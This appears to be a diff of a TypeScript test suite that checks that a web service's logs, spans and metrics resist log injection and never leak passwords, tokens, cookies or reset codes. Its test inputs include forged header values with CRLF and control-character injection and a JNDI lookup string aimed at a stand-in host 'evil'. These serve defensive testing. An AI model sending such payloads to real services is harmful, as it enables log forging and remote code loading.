@@ -21,7 +21,7 @@ test('log injection: a request is one line, and nothing in it can pass for anoth
     `traceparent: ${FORGED}`,
     'traceparent: 00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01\r\ntraceparent: again',
     `x-forwarded-for: 203.0.113.7\x85${FORGED}`,
-    'x-forwarded-for: \x9b31m, ${jndi:ldap://evil}',
+    'x-forwarded-for: \x9b31m, $(jndi:ldap://evil)',
     `referer: http://x/%0d%0a${FORGED}`,
     `authorization: Bearer ${FORGED.replaceAll(' ', '')}`,
   ];
@@ -67,67 +67,58 @@ test('names that people give themselves reach no line', async () => {
 });
 
 test('after a whole journey no secret is in any line, span or metric', async () => {
-  const secrets: Record<string, string> = {};
+  const secrets = new Map<string, string>();
+  const keep = (what: string, secret: string | null | undefined) => {
+    assert.ok(secret && secret.length >= 20, `${what} is missing from the journey`);
+    secrets.set(what, secret);
+    return secret;
+  };
   const boss = await operator(under);
-  secrets['the code of the operator link'] =
-    new URL(under.program.operatorLink?.url ?? '').searchParams.get('code') ?? '';
-  secrets['the password of the operator'] = boss.password;
   const person = await signedUp(under, 'berta');
-  const headers = { cookie: person.cookie, ...sameOrigin(under.url) };
-  secrets['a password'] = person.password;
-  secrets['a cookie'] = person.cookie.split('.')[1] ?? '';
-  secrets['the cookie of the operator'] = boss.cookie.split('.')[1] ?? '';
+  keep('the code of the operator link', codeIn(under.program.operatorLink?.url));
+  keep('the password of the operator', boss.password);
+  keep('a password', person.password);
+  for (const { cookie, email } of [boss, person]) keep(`the cookie of ${email}`, cookie.split('.')[1]);
+  const [mine, theirs] = [person, boss].map(({ cookie }) => ({ cookie, ...sameOrigin(under.url) }));
 
-  const wrong = (secrets['a wrong password'] = 'an owl that was never seen');
-  await post('/api/v1/sessions', {}, { email: person.email, password: wrong });
-  await askForm(under, { path: '/sign-in', headers, fields: { email: person.email, password: wrong } });
-  const token = await post('/api/v1/account/tokens', { ...headers, 'idempotency-key': 'k-1' }, TOKEN);
-  secrets['an API token'] = String(token.json()['secret']);
-  const bearer = { authorization: `Bearer ${secrets['an API token']}` };
-  const service = await post('/api/v1/service-tokens', bearer, { audience: under.url, scopes: [] });
-  secrets['a service token'] = String(service.json()['token']);
+  const password = keep('a wrong password', 'an owl that was never seen');
+  const attempt = { email: person.email, password };
+  await post('/api/v1/sessions', {}, attempt);
+  await askForm(under, { path: '/sign-in', headers: sameOrigin(under.url), fields: attempt });
+
+  const created = await post('/api/v1/account/tokens', { ...mine, 'idempotency-key': 'k-1' }, TOKEN);
+  const token = keep('an API token', String(created.json()['secret']));
+  const bearer = { authorization: `Bearer ${token}` };
+  const issued = await post('/api/v1/service-tokens', bearer, { audience: under.url, scopes: [] });
+  const service = keep('a service token', String(issued.json()['token']));
   await ask(under, {
-    path: '/api/v1/account',
-    headers: { authorization: `Bearer ${secrets['a service token']}` },
+    path: `/api/v1/account?token=${token}`,
+    headers: { authorization: `Bearer ${service}` },
   });
-  await ask(under, { path: `/api/v1/account?token=${secrets['an API token']}`, headers: bearer });
-  const form = await askForm(under, {
-    path: '/account/tokens',
-    headers,
-    fields: { name: 'x', scope: 'service', days: '' },
-  });
-  secrets['an API token of a form'] = /bsht_\w+/.exec(form.text)?.[0] ?? '';
+  const fields = { name: 'x', scope: 'service', days: '' };
+  const form = await askForm(under, { path: '/account/tokens', headers: mine ?? {}, fields });
+  keep('an API token of a form', /bsht_\w+/.exec(form.text)?.[0]);
 
-  const options = await post('/api/v1/account/passkeys/options', headers, undefined);
-  secrets['a challenge'] = String(asRecord(options.json()['options'])['challenge']);
-  const bossHeaders = { cookie: boss.cookie, ...sameOrigin(under.url) };
-  const link = await post(`/api/v1/users/${person.userId}/password-link`, bossHeaders, undefined);
-  const code = new URL(String(link.json()['url'])).searchParams.get('code') ?? '';
-  secrets['the code of a password link'] = code;
-  await ask(under, { path: `/new-password?code=${code}` });
-  await ask(under, { path: `/new-password/${code}` });
-  const password = (secrets['a new password'] = 'nine herons over the marsh');
+  const options = await post('/api/v1/account/passkeys/options', mine ?? {}, undefined);
+  keep('a challenge', String(asRecord(options.json()['options'])['challenge']));
+  const link = await post(`/api/v1/users/${person.userId}/password-link`, theirs ?? {}, undefined);
+  const code = keep('the code of a password link', codeIn(String(link.json()['url'])));
+  for (const path of [`/new-password?code=${code}`, `/new-password/${code}`]) await ask(under, { path });
   const chosen = await askForm(under, {
     path: '/new-password',
     headers: sameOrigin(under.url),
-    fields: { code, password },
+    fields: { code, password: keep('a new password', 'nine herons over the marsh') },
   });
-  assert.equal(chosen.status, 303);
-  secrets['a new cookie'] = /session=[\w-]+\.([\w-]+)/.exec(String(chosen.cookies))?.[1] ?? '';
-  await ask(under, {
-    path: '/account',
-    headers: { cookie: `session=${crypto.randomUUID()}.${secrets['a new cookie']}` },
-  });
+  const cookie = keep('a new cookie', /session=[\w-]+\.([\w-]+)/.exec(String(chosen.cookies))?.[1]);
+  await ask(under, { path: '/account', headers: { cookie: `session=${crypto.randomUUID()}.${cookie}` } });
 
   const { text: metrics } = await ask(under, { path: '/metrics' });
   const told = JSON.stringify([under.telemetry.lines, under.telemetry.spans]) + metrics;
   assert.ok(told.length > 10_000);
-  for (const [what, secret] of Object.entries(secrets)) {
-    assert.ok(secret.length >= 20, `${what} is missing from the journey`);
-    for (const form of [secret, encodeURIComponent(secret), Buffer.from(secret).toString('base64')])
-      assert.ok(!told.includes(form), `${what} was told`);
-  }
-  assert.ok(!told.includes(person.email) && !told.includes(boss.email), 'an address was told');
+  for (const [what, secret] of secrets)
+    for (const written of [secret, encodeURIComponent(secret), Buffer.from(secret).toString('base64')])
+      assert.ok(!told.includes(written), `${what} was told`);
+  for (const { email } of [boss, person]) assert.ok(!told.includes(email), 'an address was told');
 });
 
 test('every line of a request names its trace, and the trace of the caller is continued', async () => {
@@ -139,6 +130,10 @@ test('every line of a request names its trace, and the trace of the caller is co
     assert.ok(under.telemetry.lines.some(line => line.msg === 'request' && line['traceId'] === traceId)),
   );
 });
+
+function codeIn(url: string | undefined): string | null {
+  return new URL(url ?? '').searchParams.get('code');
+}
 
 function post(path: string, headers: Record<string, string>, json: unknown): Promise<Got> {
   if (json === undefined) return ask(under, { method: 'POST', path, headers });
